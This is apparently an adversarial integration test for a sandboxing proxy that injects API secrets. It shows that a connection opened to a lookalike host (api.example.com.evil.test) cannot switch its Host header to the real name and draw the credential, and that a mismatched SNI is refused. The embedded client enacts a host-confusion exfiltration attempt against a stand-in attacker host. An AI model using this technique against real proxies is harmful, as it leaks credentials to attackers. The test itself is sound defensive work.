#!/usr/bin/env bash
# A connection to the synthetic address of a name the sandbox resolved may take the
# client's own name when the DNS name is that name with a suffix (search domains).
# Only while nothing has been decided or dialed for the DNS name: once a request
# went to an upstream dialed for api.example.com.evil.test (HTTP/1.0 without Host
# names no host, so it is decided for the DNS name), a later request on the same
# connection naming api.example.com must not take that name, be injected for it and
# go down the upstream dialed for the other (invariant I2).
#
#   jail: client --nft--> authproxy --remap--> 127.0.0.1:atk (api.example.com.evil.test)
#                                   --remap--> 127.0.0.1:up  (api.example.com)
. "$(dirname "$0")/../integration/lib.sh"
. "$(dirname "$0")/adv_lib.sh"

host_ns_start
hupstream up
hupstream atk
SECRET="sk-search-switch-$$"
mkdir -p "$T/secrets"
printf '%s\n' "$SECRET" > "$T/secrets/KEY"
cat > "$T/config.json" <<EOF
{ "rules": [ { "name": "api", "allow_plain_http": true, "match_hosts": ["api.example.com"],
    "headers": [ { "name": "Authorization", "type": "workspace_secret", "value": "Bearer {KEY}" } ] } ],
  "dns": { "remap": { "api.example.com": "127.0.0.1:$up_PORT",
                      "api.example.com.evil.test": "127.0.0.1:$atk_PORT" } } }
EOF

cat > "$T/client.py" <<'PYEOF'
import json, socket, sys
sys.path.insert(0, sys.argv[1])
import advlib

out = {}
addr = socket.gethostbyname("api.example.com.evil.test")
s = socket.create_connection((addr, 80), timeout=10)
try:
    s.sendall(b"GET /first?keep=1 HTTP/1.0\r\nConnection: keep-alive\r\n\r\n")
    out["first"], _, rest = advlib.read_response(s)
    s.sendall(b"GET /second?keep=1 HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
    out["second"], _, rest = advlib.read_response(s, rest)
except (ConnectionError, socket.timeout) as e:
    out["error"] = type(e).__name__
print(json.dumps(out))
PYEOF

hjail --config "$T/config.json" --secrets-dir "$T/secrets" --user nobody -- \
  "$PY" "$T/client.py" "$TOOLS" > "$T/out.json"
cat "$T/out.json"

assert_not_contains "$(cat "$T/atk.jsonl")" "$SECRET" "the secret at the DNS name's upstream"
assert_eq "$(upq atk '[r["path"] for r in reqs]')" '["/first"]' \
  "requests the DNS name's upstream received"
assert_eq "$(upq atk 'len([r for r in reqs if hdr(r, "Authorization")])')" "0" \
  "requests with a credential at the DNS name's upstream"
assert_contains "$(cat "$T/out.json")" '"second": "HTTP/1.1 403' "the second request refused"
pass "a name agreed by a request is not replaced by the client's shorter name"

# An address literal is not taken from SNI for a DNS name that extends it: resolving
# 10.0.0.1.evil.test and sending SNI 10.0.0.1 (which RFC 6066 forbids, and which is
# refused on any other connection as ip_literal_sni) is a disagreement.
hjail --config "$T/config.json" --secrets-dir "$T/secrets" --log "$T/audit.jsonl" \
  --user nobody -- sh -c \
  'echo | timeout 10 openssl s_client -connect 10.0.0.1.evil.test:443 -servername 10.0.0.1 \
     > /dev/null 2>&1' 2> "$T/jail-sni.log" || true
assert_eq "$("$PY" -c '
import json, sys
print([r.get("reason") for r in map(json.loads, open(sys.argv[1])) if r["event"] == "conn"])' \
  "$T/audit.jsonl")" "['sni_mismatch']" "the audited reason of SNI 10.0.0.1 to 10.0.0.1.evil.test"
pass "an address literal in SNI does not replace the DNS name it is a prefix of"
